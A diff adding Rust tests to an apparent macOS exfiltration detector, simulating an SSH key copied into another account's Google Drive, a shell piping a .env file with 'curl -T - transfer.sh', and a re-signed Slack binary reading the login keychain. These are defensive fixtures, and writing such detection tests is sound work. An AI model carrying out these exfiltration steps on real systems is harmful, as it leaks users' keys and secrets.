@@ -33,6 +33,77 @@ fn a_client_takes_up_what_was_put_into_its_folder() {
     story("alice@corp.com", disabled).low();
 }
 
+/// A file provider lays a copy for the client elsewhere, from which it uploads, through a cache of its own.
+#[test]
+fn a_client_takes_up_what_its_provider_laid_out_for_it() {
+    let wharf = "/Users/alice/Library/Application Support/FileProvider/0A1B/wharf/wharf/propagate/1";
+    let cache = "/Users/alice/Library/Application Support/Google/DriveFS/1/content_cache/d1/9";
+    let story = |account: &str, client: Program| {
+        let mut w = World::new();
+        let finder = w.launch(0.0, FINDER, &["Finder"]);
+        let provider = "/System/Library/Frameworks/FileProvider.framework/Support/fileproviderd";
+        let provider = w.launch(0.1, apple(provider, "com.apple.FileProvider"), &["fileproviderd"]);
+        let client = w.launch(0.2, client, &["drive"]);
+        let to = format!("/Users/alice/Library/CloudStorage/GoogleDrive-{account}/My Drive/id_rsa");
+        w.copy_file(1.0, &finder, "copyfile", "/Users/alice/.ssh/id_rsa", &to);
+        w.copy_file(2.0, &provider, "clone", &to, wharf);
+        w.open_inode(2.5, &client, wharf, 4_712);
+        w.write_inode(2.6, &client, cache, 4_713);
+        w.open_inode(2.7, &client, cache, 4_713);
+        w.upload(3.0, &client, "clients6.google.com", 90_000);
+        w.tell()
+    };
+    let told = story("eve@gmail.com", DRIVE);
+    assert_eq!(told.alert().rules[0].id.as_ref(), "cw.exfil.sync-drop");
+    // Who is no client of that folder may be anybody.
+    let other = story("eve@gmail.com", adhoc("/private/tmp/x", "x"));
+    assert_eq!(
+        other.alerts().iter().map(|alert| alert.id).collect::<std::collections::BTreeSet<_>>().len(),
+        2
+    );
+}
+
+/// Variables for a program come from a file that the shell reads at its prompt. Scripts, and files that the shell opens for what it
+/// starts, are no such thing; nor are keys.
+#[test]
+fn a_shell_takes_variables_from_a_file() {
+    let env = "/Users/alice/src/app/.env";
+    let story = |args: &[&str], file: &str, by_fork: bool| {
+        let mut w = World::new();
+        let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), args);
+        let child = w.fork(1.0, &shell);
+        w.open(1.1, if by_fork { &child } else { &shell }, file);
+        let other = w.fork(1.2, &shell);
+        let sender = if by_fork { child } else { other };
+        let sender = w.exec(1.3, &sender, apple("/usr/bin/curl", "com.apple.curl"), &["curl", "-T", "-"]);
+        w.upload(2.0, &sender, "transfer.sh", 9_000);
+        w.tell()
+    };
+    story(&["-zsh"], env, false).none();
+    story(&["zsh", "-il"], env, false).none();
+    story(&["-zsh"], env, true).alert();
+    story(&["zsh", "deploy.sh"], env, false).alert();
+    story(&["zsh", "-c", "source .env; curl -T - transfer.sh"], env, false).alert();
+    story(&["-zsh"], "/Users/alice/.ssh/id_rsa", false).alert();
+}
+
+/// An app looks for its own password in the login keychain when it starts.
+#[test]
+fn apps_open_the_login_keychain() {
+    let login = "/Users/alice/Library/Keychains/login.keychain-db";
+    let slack =
+        vendor("/Applications/Slack.app/Contents/MacOS/Slack", "com.tinyspeck.slackmacgap", "BQR82RBBHL");
+    for (program, host) in [(slack, "files.slack.com"), (DRIVE, "clients6.google.com")] {
+        works(program, &["x"], &[login], host, 90_000).none();
+        works(program, &["x", "--inspect=9229"], &[login], host, 90_000).one_of_any_confidence();
+        let other = "/Users/alice/Library/Keychains/0A1B/keychain-2.db";
+        works(program, &["x"], &[other], host, 90_000).one_of_any_confidence();
+    }
+    let thief =
+        vendor("/Applications/Slack.app/Contents/MacOS/Slack", "com.tinyspeck.slackmacgap", "ABCDE12345");
+    works(thief, &["x"], &[login], "files.slack.com", 90_000).alert();
+}
+
 /// Office saves what lies in the cloud from the process that holds a document of this Mac open. What the company itself calls
 /// sensitive is another matter, and so is another place.
 #[test]
